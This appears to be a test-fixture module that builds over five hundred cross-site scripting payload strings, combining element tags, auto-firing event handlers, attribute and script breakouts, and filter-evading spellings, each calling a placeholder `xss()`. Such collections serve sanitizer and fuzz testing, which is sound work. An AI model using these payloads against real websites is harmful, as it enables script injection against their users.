/**
 * Texts that try to run a script, generated from parts: every element that can carry one, every event without user
 * interaction, and every way to break out of an attribute, a script or a style, in several spellings. Each calls `xss()`
 * when it runs.
 */
const CALL = 'xss()'
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'iframe',
  'object data=x',
  'embed src=x',
  'marquee',
  'select autofocus',
  'textarea autofocus',
  'style',
  'link rel=stylesheet href=x',
  'math',
  'custom-element tabindex=1 autofocus',
]
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onbegin',
  'onpageshow',
  'onanimationstart',
  'onstart',
  'onfocusin',
  'onbeforematch',
  'onmouseover',
  'onpointerrawupdate',
  'onscroll',
  'ontransitionrun',
  'onhashchange',
  'onresize',
  'oncanplay',
  'onloadstart',
  'onwheel',
  'onpopstate',
]
const CLOSERS = [
  '"',
  "'",
  '">',
  "'>",
  '`',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '</noscript>',
  '\\"',
  '{{',
  '${',
]
const SCRIPTS = [
  `<script>${CALL}</script>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="java\tscript:${CALL}">x</a>`,
  `<a href="\u0001javascript:${CALL}">x</a>`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<base href="javascript:${CALL}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<template><script>${CALL}</script></template>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `\u2028${CALL}//`,
  `";${CALL};//`,
  `';${CALL};//`,
  `</script><script>${CALL}</script>`,
  `<!--<script>${CALL}//-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `<<script>${CALL}//<</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src=x onerror\n=${CALL}>`,
  `<svg/onload=${CALL}//`,
  `[x](javascript:${CALL})`,
  `expression(${CALL})`,
]

const attributes = ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} ${event}=${CALL}>`))
const escapes = CLOSERS.flatMap((closer) =>
  [
    `<img src=x onerror=${CALL}>`,
    `<svg onload=${CALL}>`,
    ` onfocus=${CALL} autofocus x=`,
    `<script>${CALL}</script>`,
  ].map((tail) => `${closer}${tail}`),
)
const spellings = SCRIPTS.flatMap((script) => [
  script,
  script.toUpperCase().replaceAll('XSS()', CALL),
  `${CLOSERS[2]}${script}`,
  `Camisa ${script} azul`,
])

/** More than five hundred different texts. */
export const payloads = [...new Set([...attributes, ...escapes, ...spellings])]
